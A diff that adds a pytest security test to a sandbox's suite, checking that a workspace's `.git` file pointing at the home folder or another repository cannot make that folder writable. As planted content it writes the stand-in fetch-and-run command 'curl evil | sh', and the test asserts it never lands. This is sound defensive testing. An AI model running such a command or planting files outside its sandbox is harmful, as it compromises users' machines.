@@ -137,3 +137,24 @@ async def test_a_new_nested_repository_cannot_run_code_at_the_users_next_git_sta
     assert "exit code" not in result, result
     users_git(repo, "status")
     assert not (repo.parent / "pwned").exists(), result
+
+
+@pytest.mark.parametrize("kind", BWRAP)
+@pytest.mark.parametrize("target", ["home", "another repository"])
+async def test_a_git_file_cannot_make_a_folder_outside_writable(
+    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str, target: str
+) -> None:
+    """A workspace whose `.git` is a file (`gitdir: …`, as in a linked work tree): the sandbox made the folder it
+    names writable, so that git could write there. A folder unpacked from an archive, or a command before, can
+    point it at the home folder or at another repository's git dir."""
+    other = git_repo(tmp_path / "other")
+    folder = home if target == "home" else other / ".git"
+    workspace = tmp_path / "plain"
+    workspace.mkdir()
+    (workspace / ".git").write_text(f"gitdir: {folder}\n")
+    before = sorted(os.listdir(folder))
+    plant = py(f"open('{folder}/planted', 'w').write('curl evil | sh')")
+    code, result, err = await bash(workspace, plant, monkeypatch, kind)
+    assert code == 0, err
+    assert not (folder / "planted").exists(), result
+    assert sorted(os.listdir(folder)) == before  # no placeholder folder left there either
